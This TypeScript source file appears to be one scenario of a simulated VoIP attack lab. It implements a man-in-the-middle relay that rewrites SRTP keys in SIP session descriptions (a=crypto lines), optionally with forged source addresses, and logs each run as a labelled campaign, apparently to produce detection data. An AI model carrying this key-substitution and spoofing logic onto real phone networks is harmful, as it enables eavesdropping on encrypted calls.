/**
 * A20 on keys: somebody on the way from a telephone to its proxy replaces the SRTP keys of session descriptions (a=crypto, RFC 4568):
 * he can read what is sent, and the ends cannot.
 */
import type { Socket } from 'node:dgram';
import type { Account, CampaignHandle, Intensity, Lab, Scenario } from '../scenario.ts';
import { Actor, type Endpoint, unlabelled } from './senders/actor.ts';
import { Answerer } from './senders/answerer.ts';
import { acknowledge, dial, spareAccount, within } from './senders/dial.ts';
import { Voice } from './senders/voice.ts';

const PROFILE = 'RTP/SAVP';
const FORGED = 'forged source';

/** Relayed: both directions pass through the attacker. With a forged source only requests do, and answers go straight back. */
export const keyTampering: Scenario = {
  name: 'key-tampering',
  title: 'SRTP keys in session descriptions are replaced on the way',
  attack: 'A20',
  intensities: [
    { name: '2 calls, relayed', value: 2 },
    { name: '8 calls, relayed', value: 8 },
    { name: `4 calls, ${FORGED}`, value: 4 },
  ],
  site: { phones: 6 },
  proof: 'hashes',
  run,
};

async function run(lab: Lab, intensity: Intensity): Promise<void> {
  const from = spareAccount(lab, 0);
  const to = spareAccount(lab, 1);
  const caller = await Actor.open(lab, unlabelled, 'office');
  const called = await Answerer.open(lab, unlabelled, 'floor', to, {
    rings: 200,
    talks: 20_000,
    lines: [cryptoLine(lab)],
    profile: PROFILE,
  });
  const forged = intensity.name.endsWith(FORGED);
  const campaign = lab.campaign({
    attack: 'A20',
    classes: ['hijack', 'media-attack'],
    stage: 'abuse',
    intensity: intensity.name,
    spoofed: forged ? [caller.address] : [],
    targets: [`${from.user}@${from.domain}`, `${to.user}@${to.domain}`],
  });
  const middle = await Middle.open(lab, campaign, caller, forged);
  const callIds: string[] = [];
  for (let i = 0; i < intensity.value; i++) {
    const callId = await call(lab, { caller, account: from, user: to.user, middle });
    if (callId !== undefined) callIds.push(callId);
  }
  const fooled = called.offers.some((offer) => offer.includes(middle.key));
  campaign.end(fooled ? 'succeeded' : 'failed', { targets: callIds, attackers: forged ? [] : [middle.address] });
  for (const one of [caller, called, middle]) one.close();
}

/** A key of the usual suite: 30 random bytes. */
function drawKey(lab: Lab): string {
  return Buffer.from(lab.random.bytes(30)).toString('base64');
}

function cryptoLine(lab: Lab): string {
  return `a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:${drawKey(lab)}`;
}

interface Plan {
  readonly caller: Actor;
  readonly account: Account;
  readonly user: string;
  readonly middle: Middle;
}

/** One call of a second; everything that the caller sends goes to the one in the middle. Gives its Call-ID if it was answered. */
async function call(lab: Lab, { caller, account, user, middle }: Plan): Promise<string | undefined> {
  const voice = await Voice.open(lab, caller.segment, caller.address);
  voice.scrambled = true;
  const body = voice.description(lab, [cryptoLine(lab)], PROFILE);
  const dialled = await dial(caller, lab, account, user, body, 8_000, middle);
  if (typeof dialled !== 'number') {
    acknowledge(caller, dialled, middle);
    voice.target = dialled.media;
    await voice.talk(lab, unlabelled, dialled.callId, lab.random.integer(700, 1_100));
    await caller.ask(within(dialled, 'BYE', 1), middle);
  }
  voice.close();
  return typeof dialled === 'number' ? undefined : dialled.callId;
}

/** Passes messages on, with its own key in place of every other. */
class Middle implements Endpoint {
  readonly address: string;
  readonly port: number;
  readonly key: string;
  readonly #socket: Socket;
  readonly #mask: Socket | undefined;

  private constructor(address: string, port: number, key: string, socket: Socket, mask: Socket | undefined) {
    this.address = address;
    this.port = port;
    this.key = key;
    this.#socket = socket;
    this.#mask = mask;
  }

  /** Opens one for this telephone. It listens at the telephone's port, so that answers by Via find it, too. */
  static async open(lab: Lab, campaign: CampaignHandle, phone: Endpoint, forged: boolean): Promise<Middle> {
    const address = lab.segment('attack').address();
    const socket = await lab.segment('attack').socket(address, phone.port);
    const mask = forged ? await lab.segment('attack').forger(phone.address, phone.port) : undefined;
    const middle = new Middle(address, phone.port, drawKey(lab), socket, mask);
    socket.on('message', (payload, from) => {
      const toProxy = from.address === phone.address;
      const altered = Buffer.from(payload.toString('latin1').replace(/inline:[A-Za-z0-9+/=]{40}/g, `inline:${middle.key}`), 'latin1');
      campaign.send(toProxy && mask !== undefined ? mask : socket, altered, toProxy ? lab.site.proxy : phone);
    });
    return middle;
  }

  close(): void {
    this.#socket.close();
    this.#mask?.close();
  }
}
